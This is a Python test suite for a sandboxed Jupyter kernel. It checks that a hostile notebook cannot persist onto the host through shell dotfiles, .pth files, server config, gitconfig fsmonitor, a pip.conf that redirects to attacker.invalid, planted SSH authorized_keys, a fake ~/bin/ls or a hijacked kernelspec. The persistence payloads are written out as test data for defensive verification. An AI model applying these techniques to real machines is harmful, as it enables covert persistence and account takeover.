"""A hostile notebook must not change how anything outside its sandbox starts next.

Issue 11, attacks 1, 2 and 3b: the kernel writes where the server, the next
kernel start, the user's shell or tools will read and run: a kernelspec that
shadows the sandboxed one, the server's config, a .pth file in the server's
site dirs, login and tool dotfiles, pip's cache. Each test runs the attack
in a real sandboxed kernel of a server process living in a home of its own
(hostile.py), then checks the host: the files, and what the next server
process, login shell or kernelspec lookup actually does.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import shutil
import subprocess
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from .conftest import PROBE_HELPERS
from .hostile import SANDBOXED, Host, ServerProcess, make_host, write_kernelspec

pytestmark = pytest.mark.timeout(60)

# What the "next start" runs on the host after the attack: a server process
# loading its config (and, as every Python start, the .pth files of its site
# dirs), a login shell, an interactive shell.
NEXT_SERVER = ("from jupyter_server.serverapp import ServerApp\n"
               "ServerApp().load_config_file()\n")


@dataclass(frozen=True)
class Target:
    """One place a kernel writes to persist."""

    name: str

    def path(self, home: Path, paths: dict[str, Any]) -> Path:
        """Where this target lies for a server with `paths` (hostile_server's op_paths)."""
        site_in_home = [p for p in paths["site"] if p.startswith(str(home))]
        where = {
            "jupyter-config": Path(paths["config_dir"]) / "jupyter_server_config.py",
            "env-jupyter-config": Path(paths["prefix"]) / "etc/jupyter/jupyter_server_config.py",
            # JupyterLab loads it into every page: script in the server's origin
            "labextension": Path(paths["data_dir"]) / "labextensions/hostile/package.json",
            "site-pth": Path(site_in_home[0]) / "zz_hostile.pth",
            "user-site-pth": Path(paths["user_site"]) / "zz_hostile.pth",
            "bashrc": home / ".bashrc",
            "profile": home / ".profile",
            "bash_profile": home / ".bash_profile",
            "authorized_keys": home / ".ssh/authorized_keys",
            "gitconfig": home / ".gitconfig",
            "pip-conf": home / ".config/pip/pip.conf",
            "home-bin": home / "bin/ls",
            "pip-cache": home / ".cache/pip/http-v2/0/0/0/hostile",
        }
        return where[self.name]

    def payload(self, marker: Path) -> str:
        """What the kernel writes: code that would touch `marker` where it can run."""
        if self.name in ("bashrc", "profile", "bash_profile"):
            return f"\ntouch '{marker}'\n"
        if self.name == "home-bin":
            return f"#!/bin/sh\ntouch '{marker}'\n"
        if self.name == "site-pth" or self.name == "user-site-pth":
            return f"import os; open('{marker}', 'w').close()\n"
        if self.name in ("jupyter-config", "env-jupyter-config"):
            return f"\nopen('{marker}', 'w').close()\n"
        if self.name == "gitconfig":
            return f"[core]\n\tfsmonitor = touch '{marker}'\n"
        if self.name == "labextension":
            return '{"name": "hostile", "jupyterlab": {"_build": {"load": "static/x.js"}}}\n'
        if self.name == "pip-conf":
            return "[global]\nindex-url = http://attacker.invalid/simple\n"
        if self.name == "authorized_keys":
            return "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHostileKeyOfTheAttacker attacker\n"
        return "a poisoned cache entry\n"


TARGETS = [Target(name) for name in (
    "jupyter-config", "env-jupyter-config", "labextension", "site-pth", "user-site-pth",
    "bashrc", "profile", "bash_profile", "authorized_keys", "gitconfig", "pip-conf", "home-bin",
    "pip-cache")]

# "skel": a home as useradd makes it, used for a while (~/.jupyter, ~/.ssh,
# ~/.config, ~/.cache/pip, ~/bin exist); "bare": a fresh home with none of them.
LAYOUTS = ("skel", "bare")

ATTACK = PROBE_HELPERS + """
results = {}
for name, (path, text) in TARGETS.items():
    def attack():
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a") as f:
            f.write(text)
        os.chmod(path, 0o755)
    results[name] = err(attack)
print(json.dumps(results))
"""


@dataclass
class Attacked:
    """A home after a kernel tried every target, and what the next starts did."""

    host: Host
    paths: dict[str, Any]
    before: dict[str, bytes | None]
    after: dict[str, bytes | None]
    errors: dict[str, str | None]
    ran: set[str]


def snapshot(path: Path) -> bytes | None:
    return path.read_bytes() if path.is_file() else None


def skel_home(host: Host) -> None:
    home = host.home
    (home / ".bashrc").write_text("# the user's own .bashrc\n")
    (home / ".profile").write_text('# as in /etc/skel\nif [ -d "$HOME/bin" ] ; then '
                                   'PATH="$HOME/bin:$PATH"; fi\n')
    (home / ".gitconfig").write_text("[user]\n\tname = Someone\n")
    (home / ".jupyter").mkdir()
    (home / ".jupyter/jupyter_server_config.py").write_text("# the user's own config\n")
    (home / ".ssh/authorized_keys").write_text("ssh-ed25519 AAAAtheUsersOwnKey user@laptop\n")


def bare_home(host: Host) -> None:
    for entry in host.home.iterdir():
        if entry.name not in ("notebooks", "venv"):
            shutil.rmtree(entry)


@pytest.fixture(scope="module", params=LAYOUTS)
def attacked(request: pytest.FixtureRequest,
             tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attacked]:
    """One kernel per home layout tries every target; the next starts then run on the host."""
    layout: str = request.param
    tmp = tmp_path_factory.mktemp(f"persist-{layout}")
    host = make_host(tmp, venv=True)
    (skel_home if layout == "skel" else bare_home)(host)
    with ServerProcess(host, tmp / "server.log") as server:
        paths = server.ok("paths")
        where = {t.name: t.path(host.home, paths) for t in TARGETS}
        before = {name: snapshot(p) for name, p in where.items()}
        kernel = server.ok("start", name=SANDBOXED, cwd=str(host.home / "notebooks"))["id"]
        targets = {t.name: (str(where[t.name]), t.payload(host.outside / f"ran-{t.name}"))
                   for t in TARGETS}
        errors = json.loads(server.execute(kernel, f"TARGETS = {targets!r}\n" + ATTACK))
    after = {name: snapshot(p) for name, p in where.items()}
    # the next server start, login shell, interactive shell and git command
    host.run_python(NEXT_SERVER)
    for shell in (["bash", "--login", "-c", "ls >/dev/null"], ["sh", "-l", "-c", "ls >/dev/null"],
                  ["bash", "-i", "-c", "true"]):
        subprocess.run(shell, env={**host.env, "PATH": "/usr/bin:/bin"}, cwd=host.home,
                       stdin=subprocess.DEVNULL, capture_output=True, timeout=30, check=False)
    repo = host.outside / "repo"
    subprocess.run(["git", "init", "-q", str(repo)], env=host.env, capture_output=True, check=True)
    subprocess.run(["git", "-C", str(repo), "status"], env=host.env, capture_output=True,
                   check=False)
    ran = {p.name.removeprefix("ran-") for p in host.outside.glob("ran-*")}
    yield Attacked(host, paths, before, after, errors, ran)


@pytest.mark.parametrize("target", TARGETS, ids=[t.name for t in TARGETS])
def test_kernel_cannot_write_what_runs_outside(attacked: Attacked, target: Target) -> None:
    name = target.name
    path = target.path(attacked.host.home, attacked.paths)
    if attacked.before[name] is None and path.parent == attacked.host.home:
        # A mount needs an existing mount point and can't filter names; an empty
        # placeholder would change what the shell reads. Documented, with what an
        # admin can do, in docs/security.md ("What remains").
        pytest.skip(f"~/{path.name} did not exist: a new top-level dot file is the "
                    "documented residual")
    assert attacked.after[name] == attacked.before[name], (
        f"the kernel changed {target.path(attacked.host.home, attacked.paths)} on the host "
        f"(kernel's write: {attacked.errors[name] or 'succeeded'})")
    assert name not in attacked.ran, f"the next start ran what the kernel wrote for {name}"
    assert attacked.errors[name] is not None


# ---- 1. kernelspec hijack -------------------------------------------------------------

HIJACK = PROBE_HELPERS + """
hijack = {"argv": ["/bin/sh", "-c", "touch " + MARKER + "; sleep 60", "{connection_file}"],
          "display_name": "Python 3 (sandboxed)", "language": "python",
          "metadata": {"kernel_provisioner": {"provisioner_name": "local-provisioner"}}}
tried = {}
for kernels in KERNEL_DIRS:
    def attack():
        os.makedirs(os.path.join(kernels, NAME), exist_ok=True)
        write(os.path.join(kernels, NAME, "kernel.json"), json.dumps(hijack))
    tried[kernels] = err(attack)
    if kernels == ORIGINAL:
        break
print(json.dumps(tried))
"""

RESOLVE = ("import json; from jupyter_client.kernelspec import KernelSpecManager as K\n"
           "s = K().get_kernel_spec({name!r})\n"
           "print(json.dumps([s.resource_dir, "
           "s.metadata.get('kernel_provisioner', {{}}).get('provisioner_name')]))\n")


@pytest.mark.parametrize("where", ["user-data-dir", "venv-prefix", "jupyter-path"])
def test_kernel_cannot_hijack_the_sandboxed_kernelspec(tmp_path: Path, where: str) -> None:
    """The next "Python 3 (sandboxed)" must still be the sandboxed one.

    user-data-dir: a server that prefers user paths (a system-wide Jupyter) finds
    ~/.local/share/jupyter/kernels before the env's spec; venv-prefix: a venv in
    the home, whose own share/jupyter/kernels holds the spec; jupyter-path: a
    JUPYTER_PATH dir in the home.
    """
    host = make_host(tmp_path, venv=where != "jupyter-path")
    if where == "user-data-dir":
        host.env["JUPYTER_PREFER_ENV_PATH"] = "0"
    if where == "jupyter-path":
        host.env["JUPYTER_PATH"] = str(host.home / "jupyter")
        write_kernelspec(host.home / "jupyter/kernels", SANDBOXED)
    resolve = RESOLVE.format(name=SANDBOXED)
    original_dir, provisioner = json.loads(host.run_python(resolve).stdout)
    assert provisioner == "namespace-provisioner"
    original = Path(original_dir, "kernel.json").read_bytes()
    marker = host.outside / "hijacked-kernel-ran"
    with ServerProcess(host, tmp_path / "server.log") as server:
        kernels = server.ok("paths")["kernels"]
        kernel = server.ok("start", name=SANDBOXED, cwd=str(host.home / "notebooks"))["id"]
        tried = json.loads(server.execute(kernel, (
            f"KERNEL_DIRS, ORIGINAL, NAME, MARKER = {kernels!r}, "
            f"{os.path.dirname(original_dir)!r}, {SANDBOXED!r}, {str(marker)!r}\n") + HIJACK))
    # what the next server resolves, and starts
    resolved = json.loads(host.run_python(resolve).stdout)
    assert resolved == [original_dir, "namespace-provisioner"], (
        f"the next server's {SANDBOXED!r} is {resolved} (the kernel's writes: {tried})")
    assert Path(original_dir, "kernel.json").read_bytes() == original
    assert all(tried.values()), f"the kernel wrote a kernelspec: {tried}"


# ---- 3b. %pip install stays in the sandbox ----------------------------------------------

PACKAGE = "nsprov_hostile_pkg"


def make_wheel(directory: Path, name: str = PACKAGE) -> Path:
    """A minimal pure-Python wheel: `import name` gives VALUE = 42."""
    files = {f"{name}/__init__.py": b"VALUE = 42\n",
             f"{name}-1.0.dist-info/METADATA":
                 f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n".encode(),
             f"{name}-1.0.dist-info/WHEEL":
                 b"Wheel-Version: 1.0\nGenerator: hostile-tests\nRoot-Is-Purelib: true\n"
                 b"Tag: py3-none-any\n"}
    record = ""
    for path, data in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        record += f"{path},sha256={digest},{len(data)}\n"
    files[f"{name}-1.0.dist-info/RECORD"] = (record + f"{name}-1.0.dist-info/RECORD,,\n").encode()
    directory.mkdir(parents=True, exist_ok=True)
    wheel = directory / f"{name}-1.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as z:
        for path, data in files.items():
            z.writestr(path, data)
    return wheel


@pytest.mark.parametrize("user", ["", "--user"], ids=["pip", "pip-user"])
def test_pip_install_in_a_kernel_stays_in_the_sandbox(tmp_path: Path, user: str) -> None:
    host = make_host(tmp_path, venv=True)
    wheel = make_wheel(host.home / "wheels")  # a download in the home: readable inside
    use = f"import {PACKAGE}; print({PACKAGE}.VALUE)"
    with ServerProcess(host, tmp_path / "server.log") as server:
        paths = server.ok("paths")
        server_dirs = [Path(paths["prefix"]), Path(paths["user_site"])]
        before = {d: host.list_tree(d) for d in server_dirs}
        first = server.ok("start", name=SANDBOXED, cwd=str(host.home / "notebooks"))["id"]
        installed = server.execute(first, f"%pip install --no-index --disable-pip-version-check "
                                          f"{user} {wheel}", timeout=60)
        in_that_kernel = server("execute", id=first, code=use)
        later = server.ok("start", name=SANDBOXED, cwd=str(host.home / "notebooks"))["id"]
        in_a_later_kernel = server("execute", id=later, code=use)
    imported = host.run_python(use)
    assert imported.returncode != 0 and "ModuleNotFoundError" in imported.stderr, (
        f"the server's interpreter imports what a kernel installed: {imported.stdout}")
    for d in server_dirs:
        new = sorted(host.list_tree(d) - before[d])
        assert not new, f"the kernel's install wrote into the server's {d}: {new[:5]}"
    assert in_that_kernel.get("out", "").strip() == "42", (installed, in_that_kernel)
    assert in_a_later_kernel.get("out", "").strip() == "42", in_a_later_kernel
